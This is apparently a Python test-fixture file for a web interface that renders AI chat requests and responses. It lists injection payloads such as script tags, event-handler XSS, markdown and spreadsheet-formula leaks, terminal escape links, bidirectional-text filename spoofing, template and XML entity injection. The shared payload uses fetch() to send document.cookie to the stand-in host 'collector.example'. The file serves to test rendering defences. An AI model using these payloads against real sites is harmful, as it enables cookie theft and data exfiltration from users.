"""What content can hold to reach whoever looks at it: markup, addresses, hidden characters, odd numbers.

Each that could do something does it to `window.stolen` or asks `OUTSIDE`; both are looked at. Content holds all of
them; labels, purposes and what is searched for hold those that are `TYPED`; ids of runs, exchanges, attempts, sessions
and sources can hold no markup, and are the `IDS`.
"""

from typing import Final

OUTSIDE: Final = "https://collector.example"
_GO: Final = f"fetch('{OUTSIDE}/?c='+document.cookie);window.stolen=1"

# By a name that can be an exchange's.
INPUTS: Final[dict[str, str]] = {
    "frame": f'<iframe srcdoc="<script>{_GO}</script>"></iframe>',
    "picture-of-markdown": f"![x]({OUTSIDE}/?q=SECRET)",
    "link-of-markdown": f"[read me](javascript:{_GO})",
    "escape-of-terminals": f"\x1b]8;;{OUTSIDE}\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m",
    "override": "invoice\u202egnp.exe",
    "formula": f'=HYPERLINK("{OUTSIDE}/?leak="&A1,"open")',
    "script": f"<script>{_GO}</script>",
    "ends-of-elements": f"</pre></code></textarea></title></template></style><script>{_GO}</script>",
    "ends-of-comments": f"--><script>{_GO}</script><!--",
    "failing-picture": f'<img src="{OUTSIDE}/x.png" onerror="{_GO}">',
    "vector": f'<svg onload="{_GO}"><a href="javascript:{_GO}"><text>x</text></a></svg>',
    "attribute": f'" autofocus onfocus="{_GO}" x=\'',
    "attribute-of-htmx": f'<div hx-get="{OUTSIDE}/" hx-trigger="load" hx-on::load="{_GO}">x</div>',
    "headers-of-htmx": f'<div hx-headers="js:{{x: {_GO}}}" hx-vals="js:{{y: 1}}" hx-trigger="load" hx-get="/">x</div>',
    "meta": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/"><base href="{OUTSIDE}/">',
    "style": f'<style>@import url("{OUTSIDE}/a.css");body{{background:url({OUTSIDE}/b.png)}}</style>',
    "linked-style": f'<link rel="stylesheet" href="{OUTSIDE}/c.css"><link rel="prefetch" href="{OUTSIDE}/d">',
    "form": f'<form action="{OUTSIDE}/" method="post"><input name="key"><button autofocus>Sign in</button></form>',
    "template-of-ours": "{{ signed.csrf }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}",
    "object": f'<object data="{OUTSIDE}/e"></object><embed src="{OUTSIDE}/f"><video src="{OUTSIDE}/g"></video>',
    "mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{_GO}">',
    "utf-7": "+ADw-script+AD4-window.stolen=1+ADw-/script+AD4-",
    "name-of-the-page": '<img name="getElementById"><form id="said" name="keys"><input name="body"></form>',
    "unseen": "pass\u200bword\u2060\ufeff\u00ad \u2066hidden\u2069 \U000e0041\U000e0042 nul:\x00 bell:\x07",
    "long": "unbroken" * 600,
    "remote-script": f'<script src="{OUTSIDE}/h.js"></script><script type="module">import "{OUTSIDE}/i.js"</script>',
    "shadow": f'<div><template shadowrootmode="open"><script>{_GO}</script><slot></slot></template></div>',
    "opens-by-itself": f'<details open ontoggle="{_GO}"><summary>x</summary></details><dialog open>x</dialog>',
    "focus": f'<input autofocus onfocus="{_GO}"><a id=x tabindex=1 onfocusin="{_GO}">x</a>',
    "animation": f'<svg><animate attributeName=href onbegin="{_GO}"/><use href="{OUTSIDE}/j"/></svg>',
    "entities": "&lt;script&gt;window.stolen=1&lt;/script&gt;&#60;img src=x onerror=window.stolen=1&#62;",
    "many-in-one": f"jaVasCript:/*--></title></style></textarea></script><svg/onload='+/\"/+/[*/[]/+{_GO}//'>",
    "address-of-data": f"[x](data:text/html,<script>{_GO}</script>)",
    "reference-of-markdown": f"[x]: {OUTSIDE}/k 'title'\n![y][x] <{OUTSIDE}/l> {OUTSIDE}/m",
    "frame-of-frames": f'<frameset onload="{_GO}"><frame src="javascript:{_GO}"></frameset><portal src="{OUTSIDE}">',
    "stylesheet-of-xml": f'<?xml-stylesheet href="{OUTSIDE}/n.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "{OUTSIDE}/o">]>&e;',
    "attributes-of-ours": f'<button hx-post="/sign-out" hx-trigger="load" data-copy="{_GO}" data-next>x</button>',
    "ends-of-attributes": f"'\"`><script>{_GO}</script> onmouseover={_GO} \u2028{_GO}",
}
_MOST_TYPED: Final = 200
TYPED: Final = {
    name: text for name, text in INPUTS.items() if text.isprintable() and len(text) <= _MOST_TYPED
}
# Each is an id that the store takes, and a word that means something elsewhere.
IDS: Final = ("javascript:alert-1", "data:text-html", "constructor", "hasOwnProperty", "0" * 128)


def output_of(text: str) -> dict[str, object]:
    """Return an answer that says this, in its text, in a tool's name and in its arguments."""
    return {
        "id": "chatcmpl-h", "object": "chat.completion", "model": text[:60],
        "choices": [{
            "index": 0, "finish_reason": "tool_calls",
            "message": {"role": "assistant", "content": text, "tool_calls": [
                {"id": text[:40], "type": "function", "function": {"name": text[:60], "arguments": text}},
            ]},
        }],
    }  # fmt: skip


def request_of(text: str) -> dict[str, object]:
    """Return a request that says this in every place where a request says something."""
    return {
        "model": text[:60],
        "messages": [
            {"role": "system", "content": text},
            {"role": text[:30], "content": [
                {"type": "text", "text": text}, {"type": "image_url", "image_url": {"url": text}},
            ]},
        ],
        "tools": [{"type": "function", "function": {
            "name": text[:60], "description": text, "parameters": {text[:50]: text},
        }}],
    }  # fmt: skip
